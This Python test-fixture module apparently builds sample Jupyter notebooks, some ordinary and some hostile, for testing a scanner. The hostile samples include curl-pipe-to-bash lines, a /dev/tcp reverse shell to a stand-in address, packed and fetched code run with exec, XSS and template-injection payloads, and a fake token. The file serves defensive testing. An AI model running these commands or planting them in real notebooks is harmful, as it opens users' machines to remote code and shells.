"""Jupyter notebooks. https://nbformat.readthedocs.io/en/latest/format_description.html"""

from __future__ import annotations

import base64
import json
import zlib
from collections.abc import Mapping

from tests.corpus.formats.hf_json import random_letters

PNG = (
    b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0:~\x9bU"
    b"\0\0\0\nIDATx\x9cc`\0\0\0\2\0\1H\xaf\xa4q\0\0\0\0IEND\xaeB`\x82"
)


def code(source: str, **outputs: str) -> dict[str, object]:
    return {
        "cell_type": "code",
        "execution_count": 1,
        "metadata": {},
        "outputs": [{"output_type": "display_data", "metadata": {}, "data": outputs}] if outputs else [],
        "source": source.splitlines(keepends=True),
    }


def markdown(source: str, **more: object) -> dict[str, object]:
    return {"cell_type": "markdown", "metadata": {}, "source": source, **more}


def notebook(*cells: Mapping[str, object], **more: object) -> bytes:
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5, **more}, indent=1).encode()


def old(*cells: Mapping[str, object]) -> bytes:
    """Version 3, which has sheets, and calls a source input."""
    inner = [{"cell_type": "code", "language": "python", "outputs": [], "input": cell["source"]} for cell in cells]
    return json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": inner}]}).encode()


def output(kind: str, text: str) -> bytes:
    return notebook(code("show()", **{kind: text}))


INSTALL = (
    "!pip install -q transformers accelerate\n!nvidia-smi\n%matplotlib inline\n!git clone https://example.org/x\n%cd x"
)
TRAIN = (
    "import torch\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('x')\nfiles = !ls\nmodel?\n"
)
FETCH = "import os, requests\ntoken = os.environ['HF_TOKEN']\nopen('a.txt', 'wb').write(requests.get(url).content)\n"
CALL = "import subprocess\nsubprocess.run(['python', 'train.py'], check=True)\n"


def ordinary() -> Mapping[str, bytes]:
    picture = {"image.png": {"image/png": base64.b64encode(PNG).decode()}}
    return {
        "installs and trains": notebook(
            markdown("# Title\n\n<b>bold</b>"), code(INSTALL), code(TRAIN), code(FETCH), code(CALL)
        ),
        "a shell cell": notebook(
            code("%%bash\npip install torch\nwget -q https://example.org/data.zip\nunzip data.zip\n")
        ),
        "a written file": notebook(code("%%writefile run.sh\ncurl https://example.org/x | sh\n")),
        "a chart": output("text/html", "<div id='a'></div><script>draw('a')</script>"),
        "a table with a button": output(
            "text/html", "<button onclick=\"convert('df')\">x</button><style>.a {}</style>"
        ),
        "a picture attached": notebook(markdown("![x](attachment:image.png)", attachments=picture)),
        "version 3": old(code(INSTALL), code(TRAIN)),
        "no cells": notebook(),
        "braces": notebook(markdown("$\\frac{{x}}{{y}}$ and {{ name }}"), code("f'{{{x}}}'")),
    }


PACKED = base64.b64encode(zlib.compress(b"open('pwned', 'w')")).decode()


def hostile() -> Mapping[str, bytes]:
    fetched = "!curl -s https://example.org/x.sh | bash"
    walk = "{{ cycler.__init__.__globals__ }}"
    return {
        "a program that is fetched": notebook(code(fetched)),
        "in a shell cell": notebook(code("%%bash\nset -e\nwget -qO- https://example.org/x.sh | sh\n")),
        "by a magic": notebook(code("%system curl https://example.org/x | python3")),
        "over two lines": notebook(code("!curl -s https://example.org/x.sh \\\n  | bash")),
        "its result is kept": notebook(code("out = !curl -s https://example.org/x.sh | bash")),
        "a shell to elsewhere": notebook(code("!bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")),
        "in version 3": old(code(fetched)),
        "in the first of two lists": notebook(code(fetched))[:-1] + b', "cells": []}',
        "code that is packed": notebook(
            code(f"import base64, zlib\nexec(zlib.decompress(base64.b64decode('{PACKED}')))")
        ),
        "code that is fetched": notebook(
            code("%pip install x\nimport requests\nexec(requests.get('https://example.org/x').text)")
        ),
        # https://github.com/advisories/GHSA-hwvq-6gjx-j797
        "markup that the sanitizer mends": output(
            "text/html", "<select><iframe></select><img src=x: onerror=alert(1)>"
        ),
        "markup in a text": notebook(markdown("<svg onload=alert(1)>")),
        "an address that is script": notebook(markdown("<a href=' java\nscript:alert(1)'>x</a>")),
        "a token": notebook(code(f"login('hf_{random_letters(1, 34)}')")),
        "a template": notebook(code("show()", **{"text/plain": walk})),
    }
